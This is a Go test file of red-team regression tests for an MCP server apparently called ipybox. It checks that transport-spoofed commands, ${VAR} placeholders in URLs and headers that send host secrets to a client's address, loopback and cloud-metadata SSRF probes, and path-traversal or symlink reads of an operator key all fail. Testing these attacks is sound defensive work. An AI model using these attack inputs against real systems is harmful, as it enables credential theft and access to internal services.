package mcpserver

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/ipybox/ipybox"
	"github.com/ipybox/ipybox/internal/testenv"
)

// TestRedteam4RegisterTransportTricks: without a sandbox, a stdio server
// registered through the tool is refused. A client that dresses the
// command as another transport (a type of http or sse beside a command, a
// url beside it, an odd spelling of stdio) must not get it started on the
// host either: each is refused, and the command never runs.
func TestRedteam4RegisterTransportTricks(t *testing.T) {
	t.Parallel()
	py := testenv.NeedsPython(t)
	mark, canary := hostFiles(t)
	srv := newGatedServer(t, &Options{Workspace: t.TempDir()})
	cs := connect(t, srv, nil)
	base := func() map[string]any { return probeParams(t, py, mark, canary) }
	for _, v := range []struct {
		name   string
		params map[string]any
	}{
		{"type http beside a command", with(with(base(), "type", "http"), "url", "http://127.0.0.1:9/mcp")},
		{"type sse beside a command", with(with(base(), "type", "sse"), "url", "http://127.0.0.1:9/sse")},
		{"type http, no url", with(base(), "type", "http")},
		{"a url beside a command", with(base(), "url", "http://127.0.0.1:9/mcp")},
		{"type STDIO", with(base(), "type", "STDIO")},
		{"type ' stdio'", with(base(), "type", " stdio")},
		{"type streamable-http", with(base(), "type", "streamable-http")},
		{"type local", with(base(), "type", "local")},
		{"sandbox null", with(base(), "sandbox", nil)},
		{"sandbox {}", with(base(), "sandbox", map[string]any{})},
		{"sandbox \"true\"", with(base(), "sandbox", "true")},
		{"sandbox 1", with(base(), "sandbox", 1)},
		{"command from a placeholder", map[string]any{"command": "${IPYBOX_RT4_PY}", "args": []string{"-c", probeSrv}, "env": map[string]string{"MARK": mark, "CANARY": canary}}},
	} {
		res := call(t, cs, "register_mcp_server", map[string]any{"server_name": "h", "server_params": v.params})
		if _, err := os.Stat(mark); err == nil {
			t.Fatalf("%s: the client's command started on the host (%s)", v.name, short(text(res)))
		}
		if !res.IsError {
			t.Errorf("%s: registered: %s", v.name, short(text(res)))
		}
	}
}

// TestRedteam4RegisterReadsHostSecrets: register_mcp_server fills ${VAR}
// in the client's config from ipybox's own environment and the
// workspace's .env (docs/mcp.md says so). The config is the client's: a
// url server at the client's own address, with the placeholder in its
// URL or a header, makes ipybox send the value there. Over HTTP that is
// every token holder reading the operator's secrets (another principal's
// API keys, the values of .env that kernels cannot read: invariant 5 says
// ${VAR} is filled only in host-side configs). Variants: a placeholder in
// the URL's path, in its query, in a header, from the environment and
// from .env, by a second principal.
func TestRedteam4RegisterReadsHostSecrets(t *testing.T) {
	const envSecret, dotSecret = "env-s3cret-4f1d", "dot-s3cret-9a7c"
	t.Setenv("IPYBOX_RT4_SECRET", envSecret)
	var mu sync.Mutex
	var seen []string
	leak := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, fmt.Sprintf("%s %v", r.URL.String(), r.Header))
		mu.Unlock()
		http.NotFound(w, r)
	}))
	t.Cleanup(leak.Close)
	// AllowPrivateURLs: the leak server stands for the client's own public
	// address, which the SSRF guard lets a client's URL reach.
	srv := newGatedServer(t, &Options{Workspace: t.TempDir(), HTTP: HTTPOptions{Principals: twoPrincipals}, DotEnv: map[string]string{"OPERATOR_KEY": dotSecret}, AllowPrivateURLs: true})
	url := serveHTTP(t, srv)
	alice := connectHTTPAs(t, url, aliceTok, newVersion, nil)
	h := createSession(t, alice)
	for i, params := range []map[string]any{
		{"url": leak.URL + "/p/${IPYBOX_RT4_SECRET}"},
		{"url": leak.URL + "/q?k=${OPERATOR_KEY}"},
		{"type": "http", "url": leak.URL + "/h", "headers": map[string]string{"X-Leak": "${IPYBOX_RT4_SECRET} ${OPERATOR_KEY}"}},
	} {
		res := call(t, alice, "register_mcp_server", map[string]any{"server_name": fmt.Sprintf("leak%d", i), "server_params": params, "session": h})
		t.Logf("variant %d: %s", i, short(text(res)))
		for _, s := range []string{envSecret, dotSecret} {
			if strings.Contains(text(res), s) {
				t.Errorf("variant %d: the result carries a secret: %s", i, short(text(res)))
			}
		}
	}
	mu.Lock()
	defer mu.Unlock()
	for _, r := range seen {
		if strings.Contains(r, envSecret) || strings.Contains(r, dotSecret) {
			t.Errorf("ipybox sent a host secret to the client's address: %s", r)
		}
	}
}

// TestRedteam4RegistryOutlivesTheFlag: a client registers a stdio server
// while the operator allows host servers (--allow-host-servers); the
// registry keeps it. The operator restarts without the flag: the client's
// registration must not start on the host again (the gate is the
// operator's current choice), with a sandbox (it runs there) or without
// one (it is refused). The operator's own --mcp-config server still runs.
func TestRedteam4RegistryOutlivesTheFlag(t *testing.T) {
	t.Parallel()
	py := testenv.NeedsPython(t)
	for _, sandboxed := range []bool{false, true} {
		t.Run(fmt.Sprintf("sandbox=%v", sandboxed), func(t *testing.T) {
			if sandboxed {
				testenv.NeedsTool(t, "bwrap")
			}
			ws := t.TempDir()
			mark, canary := hostFiles(t)
			first := newGatedServer(t, &Options{Workspace: ws, AllowHostServers: true})
			cs := connect(t, first, nil)
			if res := call(t, cs, "register_mcp_server", map[string]any{"server_name": "h", "server_params": probeParams(t, py, mark, canary)}); res.IsError {
				t.Fatalf("register with the flag: %s", text(res))
			}
			if _, err := os.Stat(mark); err != nil {
				t.Fatal("with the flag the server did not run on the host: the test shows nothing")
			}
			cs.Close()
			first.Close()
			os.Remove(mark)

			o := &Options{Workspace: ws}
			if sandboxed {
				o.Sandbox = ipybox.DefaultSandbox()
			}
			second := newGatedServer(t, o)
			cs = connect(t, second, nil)
			got := run(t, cs, "import importlib\ntry:\n    m = importlib.import_module('mcptools.h.probe')\n    print(m.run(m.Params()))\nexcept Exception as e:\n    print('error', type(e).__name__, e)")
			t.Logf("the client's server after the restart: %s", short(got))
			if _, err := os.Stat(mark); err == nil {
				t.Fatal("after a restart without --allow-host-servers, the client's stdio server started on the host again")
			}
		})
	}
}

// TestRedteam4RegisterURLReadsLoopback: a url server is connected to from
// the host, at the client's URL, with the client's headers: an HTTP
// service on the host's loopback (or a cloud metadata address) that no
// client could reach gets ipybox's requests. What must hold is that
// nothing of its answers comes back to the client: not the body of a 200
// that is not MCP, nor of an error, nor an SSE event name, nor the banner
// of a service that is not HTTP (ssh, redis), in the registration's
// result, over streamable HTTP and the SSE fallback, and with a header
// the client sets (Metadata-Flavor, as cloud metadata services require).
// Before the fix, 4 of 8 variants carried the service's first line back
// in the error (malformed HTTP response "...", malformed line in SSE
// stream: "...", first event is "...").
func TestRedteam4RegisterURLReadsLoopback(t *testing.T) {
	t.Parallel()
	const secret = "LOOPBACK-ONLY-7c1e"
	var mu sync.Mutex
	var flavors []string
	svc := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		flavors = append(flavors, r.Header.Get("Metadata-Flavor"))
		mu.Unlock()
		switch r.URL.Path {
		case "/plain":
			w.Header().Set("Content-Type", "text/plain")
			fmt.Fprintf(w, "token=%s\n", secret)
		case "/json":
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"token": %q}`, secret)
		case "/event":
			w.Header().Set("Content-Type", "text/event-stream")
			fmt.Fprintf(w, "event: %s\ndata: x\n\n", secret)
		case "/sse":
			w.Header().Set("Content-Type", "text/event-stream")
			fmt.Fprintf(w, "event: endpoint\ndata: /x?%s\n\n", secret)
		default:
			http.Error(w, "denied: "+secret, http.StatusForbidden)
		}
	}))
	t.Cleanup(svc.Close)
	// A service that is not HTTP (ssh, redis...): its banner is the first
	// line it sends.
	raw, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { raw.Close() })
	serveRaw := func(l net.Listener, answer string) {
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				fmt.Fprint(c, answer)
				c.Close()
			}
		}()
	}
	serveRaw(raw, "SSH-2.0-"+secret+"\r\n")
	// Services that start an HTTP answer and then send their own line.
	var rawHTTP []string
	for _, answer := range []string{"HTTP/1.1 " + secret + "\r\n\r\n", "HTTP/1.1 200 OK\r\n" + secret + "\r\n\r\n", "HTTP/1.1 200 OK\r\nContent-Type: " + secret + "\r\nContent-Length: 2\r\n\r\n{}"} {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { l.Close() })
		serveRaw(l, answer)
		rawHTTP = append(rawHTTP, "http://"+l.Addr().String()+"/")
	}
	// AllowPrivateURLs: the operator lets clients reach the host's
	// services (without it, TestAttackClientURLReachesLoopback: they are
	// not dialled at all); what they answer still does not reach the
	// client.
	srv := newGatedServer(t, &Options{Workspace: t.TempDir(), HTTP: HTTPOptions{Principals: twoPrincipals}, AllowPrivateURLs: true})
	url := serveHTTP(t, srv)
	alice := connectHTTPAs(t, url, aliceTok, newVersion, nil)
	h := createSession(t, alice)
	for i, params := range []map[string]any{
		{"url": "http://" + raw.Addr().String() + "/"},
		{"type": "sse", "url": "http://" + raw.Addr().String() + "/"},
		{"type": "sse", "url": svc.URL + "/event"},
		{"url": rawHTTP[0]}, {"type": "sse", "url": rawHTTP[0]},
		{"url": rawHTTP[1]}, {"type": "sse", "url": rawHTTP[1]},
		{"url": rawHTTP[2]}, {"type": "sse", "url": rawHTTP[2]},
		{"url": svc.URL + "/plain", "headers": map[string]string{"Metadata-Flavor": "Google"}},
		{"url": svc.URL + "/json"},
		{"type": "sse", "url": svc.URL + "/sse"},
		{"type": "sse", "url": svc.URL + "/plain"},
		{"url": svc.URL + "/forbidden"},
	} {
		res := call(t, alice, "register_mcp_server", map[string]any{"server_name": fmt.Sprintf("lb%d", i), "server_params": params, "session": h})
		if strings.Contains(text(res), secret) {
			t.Errorf("variant %d: the loopback service's answer reached the client: %s", i, short(text(res)))
		}
	}
}

// TestRedteam4OwnFilesByFolder: a client's sandboxed server sees the
// files its own config names, but not those another server's config
// names (the operator's key). The client's config names, instead of the
// key file, a folder above it, the key's link, or the key through a
// spelling with .. and //; its code reads the key by a path it builds.
// The operator's server reading its key is the control.
func TestRedteam4OwnFilesByFolder(t *testing.T) {
	t.Parallel()
	py := testenv.NeedsPython(t)
	testenv.NeedsTool(t, "bwrap")
	ws := t.TempDir()
	_, canary := hostFiles(t)
	keys := filepath.Join(ws, "keys")
	if err := os.MkdirAll(keys, 0o755); err != nil {
		t.Fatal(err)
	}
	key := filepath.Join(keys, "op-key.txt")
	if err := os.WriteFile(key, []byte("operator secret"), 0o600); err != nil {
		t.Fatal(err)
	}
	linkDir := t.TempDir()
	if err := os.Symlink(key, filepath.Join(linkDir, "keylink")); err != nil {
		t.Fatal(err)
	}
	srv := newGatedServer(t, &Options{Workspace: ws, Sandbox: ipybox.DefaultSandbox(), Servers: map[string]ipybox.ServerConfig{
		"op": {Command: py, Args: []string{"-c", probeSrv, "--key-file", key}, Env: map[string]string{"CANARY": canary, "KEY": key}},
	}})
	cs := connect(t, srv, nil)
	if got := run(t, cs, "from mcptools.op.probe import Params, run\nprint(run(Params()))"); !strings.Contains(got, "key-readable=True") {
		t.Fatalf("the operator's server cannot read its key: %q", got)
	}
	// The client's server reads KEY = DIR + NAME, so that no config value
	// is the key's path as the operator wrote it.
	reader := strings.Replace(probeSrv, `os.environ.get("KEY", "/nonexistent")`, `os.environ["DIR"] + os.environ["NAME"]`, 1)
	mine := filepath.Join(ws, "mine")
	if err := os.MkdirAll(mine, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(mine, "f.txt"), []byte("client's"), 0o644); err != nil {
		t.Fatal(err)
	}
	for i, v := range []struct{ dir, name string }{
		{mine, "/f.txt"}, // control: readable
		{keys, "/op-key.txt"},
		{ws, "/keys/op-key.txt"},
		{keys + "/", "op-key.txt"},
		{keys + "//.", "/op-key.txt"},
		{filepath.Join(keys, "..", "keys"), "/op-key.txt"},
		{linkDir, "/keylink"},
	} {
		name := fmt.Sprintf("own%d", i)
		params := map[string]any{"command": py, "args": []string{"-c", reader, v.dir}, "env": map[string]string{"CANARY": canary, "DIR": v.dir, "NAME": v.name}}
		if res := call(t, cs, "register_mcp_server", map[string]any{"server_name": name, "server_params": params}); res.IsError {
			t.Fatalf("register %s: %s", name, text(res))
		}
		got := run(t, cs, fmt.Sprintf("from mcptools.%s.probe import Params, run\nprint(run(Params()))", name))
		want := "key-readable=False"
		if v.dir == mine {
			want = "key-readable=True"
		}
		if !strings.Contains(got, want) {
			t.Errorf("naming %q: %q, want %s", v.dir, got, want)
		}
	}
}
